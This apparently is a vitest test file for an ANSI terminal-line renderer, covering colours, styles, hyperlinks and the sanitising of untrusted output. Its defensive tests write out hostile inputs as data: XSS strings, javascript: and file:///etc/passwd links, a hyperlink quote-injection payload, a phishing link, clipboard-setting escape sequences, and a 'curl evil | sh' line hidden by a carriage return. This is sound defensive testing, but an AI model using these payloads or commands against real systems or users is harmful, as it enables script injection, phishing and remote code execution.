import { test } from "vitest";
import { readAnsiLine, styleAfter } from "./ansi.ts";
import { BOLD, INVERSE, PLAIN, STRIKE, UNDERLINE } from "./style.ts";

const ESC = "\u001b";

function shown(line: string): string {
  return readAnsiLine(line, PLAIN)
    .pieces.map((piece) => piece.text)
    .join("");
}

function links(line: string): readonly (string | undefined)[] {
  return readAnsiLine(line, PLAIN)
    .pieces.filter((piece) => piece.href !== undefined)
    .map((piece) => piece.href);
}

test("plain text stays one piece", ({ expect }) => {
  expect(readAnsiLine("hello", PLAIN).pieces).toEqual([{ text: "hello", style: PLAIN }]);
});

test("an empty line has no piece", ({ expect }) => {
  expect(readAnsiLine("", PLAIN).pieces).toEqual([]);
});

test("the 16 colours, 256 colours and true colours set the foreground", ({ expect }) => {
  const colour = (params: string) => readAnsiLine(`${ESC}[${params}mx`, PLAIN).pieces[0]?.style.fg;
  expect(colour("31")).toBe(1);
  expect(colour("97")).toBe(15);
  expect(colour("38;5;9")).toBe(9);
  expect(colour("38;5;196")).toBe("#ff0000");
  expect(colour("38;5;244")).toBe("#808080");
  expect(colour("38;2;1;2;3")).toBe("#010203");
  expect(colour("38:2:1:2:3")).toBe("#010203");
  expect(colour("38:2::1:2:3")).toBe("#010203");
  expect(colour("38:5:21")).toBe("#0000ff");
});

test("colours out of range and cut sequences change nothing", ({ expect }) => {
  for (const params of ["38;5;256", "38;2;1;2", "38;5", "38", "38;2;300;0;0", "999", "38;9;1"]) {
    expect(readAnsiLine(`${ESC}[${params}mx`, PLAIN).pieces[0]?.style.fg, params).toBeNull();
  }
});

test("weights add up and end one by one", ({ expect }) => {
  const { pieces, end } = readAnsiLine(`${ESC}[1;4;7;9ma${ESC}[22;27mb${ESC}[mc`, PLAIN);
  expect(pieces.map((piece) => piece.style.flags)).toEqual([
    BOLD | UNDERLINE | INVERSE | STRIKE,
    UNDERLINE | STRIKE,
    0,
  ]);
  expect(end).toEqual(PLAIN);
});

test("a style goes on over lines", ({ expect }) => {
  const after = styleAfter(`${ESC}[31mred`, PLAIN);
  expect(after.fg).toBe(1);
  expect(readAnsiLine("still red", after).pieces[0]?.style.fg).toBe(1);
  expect(styleAfter("no escape", after)).toBe(after);
});

test("B49 T15 markup stays text", ({ expect }) => {
  const line = '<script>alert(1)</script><img src=x onerror="alert(1)">&lt;';
  expect(shown(line)).toBe(line);
});

test("B49 T15 the payload of CVE-2021-3377 becomes neither markup nor a link with quotes", ({ expect }) => {
  const line = `${ESC}]8;;https://example.org/"onmouseover="alert(1)${ESC}\\text${ESC}]8;;${ESC}\\`;
  for (const href of links(line)) {
    expect(href).not.toMatch(/["<>]/);
  }
  expect(shown(line)).toContain("text");
});

test("B49 T15 links of other schemes are dropped and their text stays", ({ expect }) => {
  for (const address of [
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "vbscript:x",
    "JaVaScRiPt:x",
    "//evil.example",
    "https:evil",
  ]) {
    const line = `${ESC}]8;;${address}\u0007click${ESC}]8;;\u0007`;
    expect(links(line), address).toEqual([]);
    expect(shown(line), address).toBe("click");
  }
});

test("B49 T15 a link whose text is not its address shows the host it opens", ({ expect }) => {
  const line = `${ESC}]8;;https://evil.example/a${ESC}\\https://bank.example${ESC}]8;;${ESC}\\ end`;
  expect(shown(line)).toBe("https://bank.example (evil.example) end");
  expect(links(line)).toEqual(["https://evil.example/a"]);
});

test("B49 T15 a link that is never closed still shows its host", ({ expect }) => {
  expect(shown(`${ESC}]8;;https://evil.example/${ESC}\\here`)).toBe("here (evil.example)");
});

test("B49 T15 addresses with user names never become links", ({ expect }) => {
  expect(links("see https://bank.example@evil.example/")).toEqual([]);
  expect(shown("see https://bank.example@evil.example/")).toBe("see https://bank.example@evil.example/");
});

test("an address in text becomes a link without the sentence's punctuation", ({ expect }) => {
  expect(links("Docs: https://example.org/a(b)?x=1. (see http://example.com/x), done")).toEqual([
    "https://example.org/a(b)?x=1",
    "http://example.com/x",
  ]);
});

test("an address with a look-alike host opens its punycode form", ({ expect }) => {
  expect(links("https://exаmple.org/")).toEqual(["https://xn--exmple-4nf.org/"]);
});

test("B49 T15 cursor movement, erasing and every other CSI sequence is dropped", ({ expect }) => {
  for (const sequence of ["2J", "1;1H", "10A", "K", "?1049h", "6n", ">c", "3;J", "!p", "?25l", "1 q", "s", "u"]) {
    expect(shown(`a${ESC}[${sequence}b`), sequence).toBe("ab");
  }
  expect(shown("a\u009b2Jb")).toBe("ab");
});

test("B49 T15 OSC, DCS, APC, PM and SOS strings are dropped", ({ expect }) => {
  for (const introducer of ["]0;", "]52;c;ZXZpbA==", "]1337;File=:", "Pq", "_G", "^", "X"]) {
    expect(shown(`a${ESC}${introducer}payload${ESC}\\b`), introducer).toBe("ab");
  }
  expect(shown("a\u009d0;title\u0007b\u0090q\u009cc")).toBe("abc");
});

test("B49 T15 a string that never ends cannot hide the rest of its line", ({ expect }) => {
  expect(shown(`a${ESC}]0;rest of the line`)).toContain("rest of the line");
  expect(shown(`a${ESC}Prest`)).toContain("rest");
});

test("B49 T15 bidi controls, zero-width characters and line separators show as escapes", ({ expect }) => {
  expect(shown("a\u202Eb\u2066c\u200Fd\u200Be\uFEFFf\u2028g")).toBe(
    "a⟨U+202E⟩b⟨U+2066⟩c⟨U+200F⟩d⟨U+200B⟩e⟨U+FEFF⟩f⟨U+2028⟩g",
  );
  expect(shown("\u{E0041}")).toBe("⟨U+E0041⟩");
  expect(readAnsiLine("\u202E", PLAIN).pieces[0]?.escaped).toBe(true);
});

test("emoji joined by U+200D stay whole", ({ expect }) => {
  expect(shown("👩‍💻 ok")).toBe("👩‍💻 ok");
});

test("B49 T15 bells and backspaces are dropped, NUL is shown", ({ expect }) => {
  expect(shown("rm\u0007 -rf\b\b\b x\u0000")).toBe("rm -rf x␀");
});

test("a fake annotation is text like any other", ({ expect }) => {
  expect(shown("::error::deploy failed")).toBe("::error::deploy failed");
});

test("a progress bar shows its last state and counts what it covered", ({ expect }) => {
  const line = readAnsiLine("10%\r20%\r30%", PLAIN);
  expect(line.pieces.map((piece) => piece.text)).toEqual(["30%"]);
  expect(line.overwritten).toBe(2);
});

test("B49 T15 text hidden by a carriage return can be brought back", ({ expect }) => {
  const line = "curl evil | sh\rall good";
  expect(shown(line)).toBe("all good");
  const pieces = readAnsiLine(line, PLAIN, { expand: true }).pieces;
  expect(pieces.map((piece) => piece.text).join("")).toBe("curl evil | sh␍all good");
});

test("a carriage return at the end of a line covers nothing", ({ expect }) => {
  expect(readAnsiLine("windows\r", PLAIN)).toMatchObject({ overwritten: 0 });
  expect(shown("windows\r")).toBe("windows");
});

test("colours set before a carriage return stay set behind it", ({ expect }) => {
  expect(readAnsiLine(`${ESC}[32mold\rnew`, PLAIN).pieces).toEqual([
    { text: "new", style: { fg: 2, bg: null, flags: 0 } },
  ]);
});

test("B49 100,000 sequences in one line are read in one pass", ({ expect }) => {
  const line = `${ESC}[31m${ESC}[0m`.repeat(50_000) + "end";
  expect(readAnsiLine(line, PLAIN).pieces).toEqual([{ text: "end", style: PLAIN }]);
});

test("pieces joined with their dropped parts lose no visible text", ({ expect }) => {
  let seed = 7;
  const random = (max: number): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed % max;
  };
  const parts = [ESC, "[", "]", "8;;", "m", "31", ";", "a", "ß", "\u0007", "\\", "P", "\u009b", "K", " ", "x"];
  for (let round = 0; round < 2_000; round += 1) {
    const line = Array.from({ length: random(30) }, () => parts[random(parts.length)]).join("");
    const text = shown(line);
    expect(text).not.toMatch(/\p{Cc}/u);
    expect(text.split("ß").length).toBeLessThanOrEqual(line.split("ß").length);
  }
});
